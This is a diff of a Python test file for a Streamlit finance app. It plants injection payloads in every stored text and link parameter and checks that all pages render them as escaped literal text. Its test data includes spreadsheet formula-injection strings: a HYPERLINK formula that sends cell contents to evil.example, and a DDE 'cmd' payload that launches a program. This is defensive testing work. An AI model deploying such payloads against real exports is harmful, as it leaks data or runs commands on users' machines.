@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 
 from opportunity_engine import cli, formatting
 from opportunity_engine.store import db
+from tools.app_harness import signed_in
 
 # The probe's payloads and their disguises: leading spaces, zero-width characters, full-width forms.
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
@@ -142,63 +143,116 @@ def test_plain_escapes_every_markup_and_keeps_the_words():
     assert formatting.plain(None) == "" and formatting.plain("Emergency 2025") == "Emergency 2025"
 
 
-def _plant_markup(path) -> None:
-    """The payload in every stored text a page shows: CSU, specialty and metric names and
-    sources, a published case study's title, description and lead, a QIA sign-off, a feedback
-    comment and view, the users' names."""
+def _plant_everywhere(path, texts: list[str]) -> None:
+    """``texts`` (cycled) in every stored text a page can show that a user or an import wrote:
+    CSU, specialty and metric names and sources, a peer group's name, benchmark and cost sources,
+    every scheme's title, description and lead (one a published case study), CIP plan milestones,
+    QIA mitigations and sign-off names, WRP target sources, the audit trail, feedback comments,
+    views and responses, a saved column mapping, the import log, usage details and users' names."""
+    def cycle(i: int) -> str:
+        return texts[i % len(texts)]
+
     with db.connect(path) as con:
-        con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = 'EMA'", [MARKUP])
-        con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = '326'", [MARKUP])
+        for i, (code,) in enumerate(con.execute("SELECT csu_code FROM csus ORDER BY 1").fetchall()):
+            con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = ?", [cycle(i), code])
+        for i, (code,) in enumerate(con.execute("SELECT specialty_code FROM specialties ORDER BY 1").fetchall()):
+            con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = ?", [cycle(i), code])
         con.execute("""UPDATE metrics SET metric_name = ?, definition = ?, data_source = ?, benchmark_source = ?,
                        scheme_ideas = [?], quality_risks = [?] WHERE metric_id = 'alos_non_elective'""",
-                    [MARKUP] * 6)
-        con.execute("UPDATE benchmarks SET source = ? WHERE metric_id = 'alos_non_elective'", [MARKUP])
-        con.execute("UPDATE unit_costs SET source = ?", [MARKUP])
-        con.execute("""UPDATE schemes SET title = ?, description = ?, lead = ?, status = 'delivered', case_study = true
-                       WHERE scheme_id = 1""", [MARKUP] * 3)
-        con.execute("UPDATE qia_signoffs SET name = ? WHERE scheme_id = 1", [MARKUP])
+                    [cycle(0)] * 6)
+        con.execute("UPDATE benchmarks SET source = ?", [cycle(1)])
+        con.execute("""INSERT INTO benchmarks SELECT metric_id, specialty_code, ?, p10, p25, p50, p75, p90, source
+                       FROM benchmarks WHERE peer_group = 'peer'""", [cycle(2)])  # an imported peer group
+        con.execute("UPDATE unit_costs SET source = ?", [cycle(3)])
+        for i, (sid,) in enumerate(con.execute("SELECT scheme_id FROM schemes ORDER BY 1").fetchall()):
+            con.execute("UPDATE schemes SET title = ?, description = ?, lead = ? WHERE scheme_id = ?",
+                        [cycle(i), cycle(i + 1), cycle(i + 2), sid])
+        con.execute("UPDATE schemes SET status = 'delivered', case_study = true WHERE scheme_id = 1")
+        con.execute("UPDATE cip_plans SET milestones = ?", [cycle(4)])
+        con.execute("UPDATE qia_scores SET mitigations = ?", [cycle(5)])
+        con.execute("UPDATE qia_signoffs SET name = ?", [cycle(6)])
+        con.execute("UPDATE wrp_targets SET source = ?, set_by = ?", [cycle(7), cycle(8)])
+        con.execute("UPDATE audit_log SET old_value = ?, new_value = ?", [cycle(9), cycle(10)])
+        con.execute("UPDATE feedback SET comment = ?, view = ?, response = ?", [cycle(11), cycle(12), cycle(13)])
         con.execute("INSERT INTO feedback (username, page, view, rating, comment) VALUES ('csu', 'library', ?, 2, ?)",
-                    [MARKUP, MARKUP])
-        con.execute("UPDATE users SET name = ?", [MARKUP])
+                    [cycle(0), cycle(1)])
+        con.execute("INSERT INTO column_mappings (name, kind, columns, saved_by) VALUES (?, 'spells', '{}', ?)",
+                    [cycle(2), cycle(3)])
+        con.execute("UPDATE import_log SET file_name = ?, loaded_by = ?", [cycle(4), cycle(5)])
+        con.execute("UPDATE usage_events SET detail = ?", [cycle(6)])
+        con.execute("UPDATE users SET name = ?, email = ?", [cycle(7), cycle(8)])
         db.bump_data_version(con)
 
 
-def _rendered(at) -> list[str]:
-    """Every string AppTest holds that Streamlit renders as markdown."""
+# Every link parameter a page reads (ui.param): each carries the payload.
+PARAMS = ("csu", "specialty", "metric", "scheme", "target", "benchmark", "peer", "fy", "min", "domain", "type",
+          "flagged", "q", "present")
+GOOD = {"csu": "EMA", "specialty": "180", "metric": "alos_non_elective", "scheme": "1"}
+# Every page of app.py's navigation, as a user who may open it (finance duties and admin where needed).
+PAGES = {"overview": None, "explore": "pages/explore.py", "opportunities": "pages/opportunities.py",
+         "metric": "pages/metric.py", "shortlist": "pages/shortlist.py", "tracking": "pages/tracking.py",
+         "library": "pages/library.py", "data": "pages/data.py", "adoption": "pages/adoption.py",
+         "feedback": "pages/feedback.py", "guide": "pages/guide.py"}
+WHO = {"data": ("admin",), "adoption": ("finance", "admin"), "feedback": ("csu", "admin")}
+
+
+def _visits(payload: str) -> list[tuple[str, str | None, dict[str, str]]]:
+    """Each page, for each user who may open it: with good links (the planted records show), with
+    every parameter hostile, and with a good CSU but every other parameter hostile."""
+    hostile = dict.fromkeys(PARAMS, payload)
     out = []
-    for kind in ("markdown", "caption", "error", "info", "warning", "success", "title", "header", "subheader"):
-        out += [str(e.value) for e in getattr(at, kind)]
-    out += [m.label for m in at.metric] + [e.label for e in at.expander] + [t.label for t in at.tabs]
-    for side in (at.sidebar,):
-        out += [str(e.value) for e in side.markdown]
+    for name, page in PAGES.items():
+        for user in WHO.get(name, ("csu", "finance")):
+            out += [(user, page, GOOD), (user, page, hostile), (user, page, {**hostile, "csu": "EMA", "scheme": "1"})]
     return out
 
 
-VISITS = [  # (user, page, link parameters): every page, with the planted records and hostile links
-    ("admin", None, {}), ("csu", None, {}),
-    ("csu", "pages/explore.py", {"csu": "EMA", "specialty": "326"}),
-    ("csu", "pages/metric.py", {"csu": "EMA", "specialty": "326", "metric": "alos_non_elective"}),
-    ("csu", "pages/shortlist.py", {"scheme": "1"}), ("finance", "pages/tracking.py", {"scheme": "1"}),
-    ("csu", "pages/library.py", {}), ("admin", "pages/feedback.py", {}), ("admin", "pages/adoption.py", {}),
-    ("admin", "pages/data.py", {}), ("csu", "pages/guide.py", {}),
-    ("csu", None, {"csu": MARKUP}), ("csu", "pages/explore.py", {"csu": MARKUP}),
-    ("csu", "pages/metric.py", {"csu": MARKUP, "specialty": MARKUP, "metric": MARKUP}),
-    ("finance", "pages/tracking.py", {"csu": MARKUP}), ("finance", "pages/explore.py", {"csu": "EMA", "specialty": MARKUP}),
-    ("csu", "pages/shortlist.py", {"scheme": MARKUP, "fy": MARKUP, "target": MARKUP, "benchmark": MARKUP}),
-]
+# Proto fields Streamlit renders as markdown: bodies, labels, help tooltips, radio and pill options.
+MARKDOWN_FIELDS = {"body", "label", "help", "captions", "content", "tooltip"}
+PLAIN_PROTOS = {"Text", "Code", "Selectbox", "Multiselect", "Arrow", "ArrowVegaLiteChart", "VegaLiteChart",
+                "TextInput", "TextArea", "Json", "DataFrame"}
+
+
+def _markdown_texts(proto, out: list[str]) -> None:
+    """Every string in ``proto`` that the front end renders as markdown (or HTML)."""
+    if type(proto).__name__ in PLAIN_PROTOS:
+        if getattr(proto, "label", None) or getattr(proto, "help", None):  # labels and help of these are markdown
+            out += [proto.label, proto.help]
+        return
+    for field, value in proto.ListFields():
+        values = list(value) if hasattr(value, "__len__") and not isinstance(value, (str, bytes)) else [value]
+        if field.message_type is not None:
+            for item in values:
+                _markdown_texts(item, out)
+        elif field.name in MARKDOWN_FIELDS or (field.name == "options" and type(proto).__name__ == "Radio"):
+            out += values
+
+
+def _rendered(at) -> list[str]:
+    """Every markdown string of the rendered page: main area and sidebar, widgets included."""
+    out: list[str] = []
+    for root in (at.main, at.sidebar):
+        for node in root:
+            proto = getattr(node, "proto", None)
+            if proto is not None and hasattr(proto, "ListFields"):
+                _markdown_texts(proto, out)
+    return [t for t in out if isinstance(t, str) and t]
 
 
 def test_planted_markup_and_hostile_links_render_as_literal_text(demo_copy, monkeypatch):
-    from .test_app_pages import signed_in
-
+    """Every page, every stored text and every link parameter: no markdown link, image or HTML
+    survives (Streamlit would render it), yet the payload is shown, escaped, on most pages."""
     monkeypatch.setenv("OPPORTUNITY_DB", str(demo_copy))
     monkeypatch.setenv("OPPORTUNITY_COOKIE_KEY", "apptest-key")
-    _plant_markup(demo_copy)
-    shown_escaped = 0
-    for username, page, params in VISITS:
-        at = signed_in(username, page, **params)
-        texts = _rendered(at)
+    _plant_everywhere(demo_copy, [MARKUP])
+    visits = _visits(MARKUP)
+    failures, shown_on = [], set()
+    for username, page, params in visits:
+        texts = _rendered(signed_in(username, page, **params))
         live = [(m.pattern, t[:120]) for t in texts for m in LIVE if m.search(t)]
-        assert live == [], (username, page, params, live[:3])
-        shown_escaped += any("evil\\.example" in t for t in texts)
-    assert shown_escaped >= len(VISITS) - 5  # the payload did reach most pages, as text (not vacuous)
+        if live:
+            failures.append((username, page, sorted(params)[:3], live[:2]))
+        if any("evil\\.example" in t for t in texts):
+            shown_on.add(page)
+    assert failures == [], "\n".join(map(str, failures))
+    assert len(shown_on) >= len(PAGES) - 2, shown_on  # the payload did reach the pages, as text (not vacuous)
